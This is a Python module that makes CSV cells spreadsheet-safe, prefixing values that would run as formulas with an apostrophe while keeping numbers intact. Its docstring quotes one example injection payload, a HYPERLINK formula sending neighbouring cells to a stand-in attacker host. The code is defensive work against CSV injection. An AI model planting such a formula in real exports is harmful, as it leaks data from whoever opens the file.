"""CSV files a person opens in a spreadsheet: cells that cannot become formulas.

Case names, uids and error messages come from file names and datalists, i.e. from whoever supplied the
data. A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets strip before parsing) is run as a formula by Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&A2, "open")`` leaks the neighbouring cells when clicked. Such cells
get a leading ``'`` (OWASP's advice), which spreadsheets show as text; numbers such as ``-1.5`` stay as
they are.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """``value`` unchanged unless it is a string a spreadsheet would evaluate; then ``"'" + value``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        if math.isfinite(float(value)) and value.strip() == value:
            return value  # a plain number such as "-3" or "+1.5e-3" is not a formula
    except ValueError:
        pass
    return "'" + value


def csv_text(rows: Iterable[Mapping | Sequence], fields: Sequence[str], lineterminator: str = "\r\n") -> str:
    """A CSV document (header ``fields``) of dict or list rows, every cell made spreadsheet-safe."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=lineterminator)
    writer.writerow([spreadsheet_safe(f) for f in fields])
    for row in rows:
        cells = [row.get(f, "") for f in fields] if isinstance(row, Mapping) else list(row)
        writer.writerow([spreadsheet_safe(c) for c in cells])
    return buf.getvalue()
